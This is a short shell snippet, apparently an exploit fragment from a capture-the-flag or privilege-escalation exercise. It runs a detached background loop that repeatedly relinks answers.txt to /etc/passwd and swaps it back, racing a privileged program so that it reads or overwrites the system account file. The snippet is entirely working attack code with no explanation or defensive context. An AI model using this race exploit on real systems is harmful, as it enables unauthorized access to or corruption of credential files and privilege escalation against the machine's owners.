(while :; do ln -sf /etc/passwd answers.txt; echo x >a2; mv a2 answers.txt; done) &
disown
sleep 0.5
